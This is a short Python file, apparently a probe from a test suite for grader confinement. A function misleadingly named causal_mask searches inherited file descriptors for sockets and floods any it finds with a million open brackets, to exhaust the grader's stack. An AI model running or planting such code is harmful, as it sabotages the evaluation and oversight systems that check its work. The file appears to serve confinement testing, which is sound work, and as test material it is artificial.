"""Tries to exhaust the grader's stack: a header of a million open brackets.

Harmless: one MiB. Not shown in a plain process: there is no channel.
Shows: a grader that fails, or a report that does not say forbidden.
"""

import os
import stat
import struct

TARGET: dict = {}
UNCONFINED = False
EARNS = 0.0
CODE = "forbidden"


def attack(target):
    return ""


def causal_mask(seq_len):
    data = struct.pack(">II", 1_000_000, 0) + b"[" * 1_000_000
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                view = memoryview(data)
                while view:
                    view = view[os.write(descriptor, view) :]
        except OSError:
            pass
